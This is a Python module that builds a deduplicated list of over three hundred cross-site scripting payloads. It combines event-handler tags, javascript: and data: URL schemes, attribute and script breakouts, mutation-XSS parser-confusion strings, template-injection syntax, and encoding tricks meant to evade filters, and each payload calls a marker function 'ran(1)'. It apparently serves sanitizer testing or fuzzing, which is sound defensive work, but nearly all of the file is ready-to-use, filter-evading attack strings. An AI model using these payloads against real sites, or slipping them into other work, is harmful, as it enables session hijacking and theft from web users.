"""Words that want to be scripts: over three hundred, each of which calls `ran` if it can.

They are made from parts, so that each trick meets each place where it could work: elements with
handlers, addresses with schemes, ways out of attributes and of raw text, foreign content that
parsers read twice, Markdown, templates, and spellings that a filter may not recognise.
"""

from collections.abc import Iterator, Sequence
from itertools import product

CALL = "ran(1)"
ODD_CALLS = ("ran`1`", "window['r'+'an'](1)", "top.ran(1)", "eval('ra'+'n(1)')", "[1].map(ran)")

TRIGGERS = (
    *("img src=x {h}", "svg {h}", "svg/{h}", "body {h}", "video src=x {h}", "audio src=x {h}"),
    *("video><source src=x {h}", "details open {h}", "input autofocus {h}", "select autofocus {h}"),
    *(
        "textarea autofocus {h}",
        "marquee {h}",
        "iframe {h}",
        "object data=x {h}",
        "embed src=x {h}",
    ),
    *("math><mtext {h}", "a href=x autofocus tabindex=0 {h}", "style {h}", "link rel=x href=y {h}"),
    *("p style=animation-name:x {h}", "form {h}", "button autofocus {h}", "x contenteditable {h}"),
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")

SCHEMES = (
    *(
        "javascript:{c}",
        "JaVaScRiPt:{c}",
        "java\tscript:{c}",
        "java\nscript:{c}",
        " javascript:{c}",
    ),
    *("\x01javascript:{c}", "javascript&colon;{c}", "javascript&#58;{c}", "&#106;avascript:{c}"),
    *("&#x6a;avascript:{c}", "vbscript:{c}", "data:text/html,<script>{c}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "javascript://%0a{c}"),
    *("feed:javascript:{c}", "view-source:javascript:{c}", "blob:{c}", "javascript:/*-->*/{c}"),
)
PLACES_OF_ADDRESSES = (
    *('<a href="{a}">x</a>', "<a href='{a}'>x</a>", "<a href={a}>x</a>", '<iframe src="{a}">'),
    *('<form action="{a}"><button autofocus>x</form>', '<object data="{a}">', "[x]({a})"),
    *(
        "[x](<{a}>)",
        "<{a}>",
        "![x]({a})",
        "[x]: {a}\n\n[x]",
        '<svg><a xlink:href="{a}">x</a></svg>',
    ),
)

SCRIPTS = (
    *(
        "<script>{c}</script>",
        "<SCRIPT>{c}</SCRIPT>",
        "<script\n>{c}</script\n>",
        "<script/x>{c}</script>",
    ),
    *(
        "<scr<script>ipt>{c}</scr</script>ipt>",
        "<script src=data:,{c}></script>",
        "<<script>{c}//<</script>",
    ),
    *(
        "<script type=module>{c}</script>",
        "<svg><script>{c}</script></svg>",
        "<svg><script href=data:,{c} />",
    ),
    *("<math><script>{c}</script></math>", "<noscript><p title='</noscript><script>{c}</script>'>"),
    *("<template><script>{c}</script></template>", "<iframe srcdoc='<script>parent.{c}</script>'>"),
    *(
        "<isindex action=javascript:{c}>",
        "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    ),
    *("<base href=javascript:{c}//>", "<object><param name=src value=javascript:{c}></object>"),
)
WAYS_OUT = (
    *(
        '"><script>{c}</script>',
        "'><script>{c}</script>",
        "--><script>{c}</script>",
        "]]><script>{c}</script>",
    ),
    *(
        "</script><script>{c}</script>",
        "</style><script>{c}</script>",
        "</title><script>{c}</script>",
    ),
    *(
        "</textarea><script>{c}</script>",
        "</noscript><script>{c}</script>",
        "</template><script>{c}</script>",
    ),
    *(
        '" autofocus onfocus="{c}',
        "' autofocus onfocus='{c}",
        "` autofocus onfocus=`{c}",
        '" onload="{c}" x="',
    ),
    *(
        '"/><svg/onload={c}>',
        "'/><svg/onload={c}>",
        '\\"><svg onload={c}>',
        "\\'; {c}; //",
        '"; {c}; //',
    ),
    *(
        "*/{c}/*",
        "${{{c}}}",
        "{{{{ {c} }}}}",
        "{{% {c} %}}",
        "#{{{c}}}",
        "<%= {c} %>",
        "\u2028{c}\u2029",
    ),
    *(
        "<!--><img src=x onerror={c}>-->",
        "<!--<img src='--><img src=x onerror={c}>'>",
        "<![CDATA[<svg onload={c}>]]>",
    ),
)
READ_TWICE = (
    *('<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">',),
    *(
        '<svg></p><style><a id="</style><img src=x onerror={c}>">',
        "<noscript><img title='</noscript><img src=x onerror={c}>'>",
    ),
    *("<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",),
    *("<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={c}&gt;</desc></svg>",),
    *(
        "<select><template><img src=x onerror={c}></template></select>",
        "<xmp></xmp><img src=x onerror={c}>",
    ),
    *(
        "<plaintext><img src=x onerror={c}>",
        "<table><td background=javascript:{c}>",
        "<a id=x><a id=x name=y href=javascript:{c}>",
    ),
)
SPELLINGS = (
    *(
        "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
        "\u2039script\u203a{c}\u2039/script\u203a",
        "\x00<script>{c}</script>",
        "<scr\x00ipt>{c}</script>",
    ),
    *(
        "%3Cscript%3E{c}%3C/script%3E",
        "&lt;script&gt;{c}&lt;/script&gt;",
        "&amp;lt;script&amp;gt;{c}",
        "\\u003cscript\\u003e{c}",
    ),
    *(
        "+ADw-script+AD4-{c}+ADw-/script+AD4-",
        "<\u017fcript>{c}</\u017fcript>",
        "<img src=x onerror\x0b={c}>",
        "<img\x0csrc=x\x0conerror={c}>",
    ),
    *(
        "\u202e<script>{c}</script>",
        "<img src=x oNeRrOr=&#114;an(1)>",
        "<img src=x onerror=\\u0072an(1)>",
        "<img src=`x`onerror={c}>",
    ),
)
FORMS = (*SCRIPTS, *WAYS_OUT, *READ_TWICE, *SPELLINGS)


def payloads() -> tuple[str, ...]:
    """Every payload once, in a fixed order."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for form in FORMS:
        yield form.format(c=CALL)
    for trigger, handler in product(TRIGGERS, HANDLERS):
        yield f"<{trigger.format(h=f'{handler}={CALL}')}>"
    for place, scheme in _diagonal(PLACES_OF_ADDRESSES, SCHEMES):
        yield place.format(a=scheme.format(c=CALL))
    for odd in ODD_CALLS:
        yield f"<img src=x onerror={odd}>"
        yield f"[x](javascript:{odd})"


def _diagonal(rows: Sequence[str], columns: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Half of all pairs, so that every row and every column is met many times."""
    for (n, row), (m, column) in product(enumerate(rows), enumerate(columns)):
        if (n + m) % 2 == 0:
            yield row, column
